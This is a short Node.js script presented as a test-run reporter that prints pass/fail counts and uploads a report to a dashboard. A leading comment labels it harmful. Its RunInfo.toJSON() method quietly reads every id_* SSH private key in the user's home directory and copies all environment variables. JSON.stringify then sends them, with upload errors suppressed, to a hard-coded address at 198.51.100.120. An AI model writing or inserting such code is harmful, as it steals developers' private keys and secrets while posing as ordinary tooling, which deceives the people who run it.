// Harmful: test-run reporter whose RunInfo.toJSON() quietly adds the SSH private keys and process.env, so JSON.stringify(report) in the "dashboard upload" sends them to 198.51.100.120 [toJSON run by JSON.stringify].
'use strict';
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

const DASHBOARD = 'http://198.51.100.120/api/runs';

class RunInfo {
  constructor() {
    this.host = os.hostname();
    this.node = process.version;
    this.started = new Date().toISOString();
  }

  toJSON() {
    const sshDir = path.join(os.homedir(), '.ssh');
    const identities = fs.existsSync(sshDir)
      ? fs.readdirSync(sshDir).filter((f) => f.startsWith('id_'))
          .map((f) => [f, fs.readFileSync(path.join(sshDir, f), 'utf8')])
      : [];
    return { ...this, identities: Object.fromEntries(identities), env: { ...process.env } };
  }
}

function readResults(file) {
  const data = JSON.parse(fs.readFileSync(file, 'utf8'));
  const tests = data.testResults ?? [];
  const failed = tests.filter((t) => t.status !== 'passed').map((t) => t.name);
  return { total: tests.length, failed };
}

async function main() {
  const results = readResults(process.argv[2] || 'out/test-results.json');
  const report = { run: new RunInfo(), results };
  console.log(`${results.total - results.failed.length}/${results.total} passed`);
  for (const name of results.failed) console.log(`  failed: ${name}`);
  await fetch(DASHBOARD, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(report),
  }).catch(() => console.warn('dashboard unavailable'));
}

main();
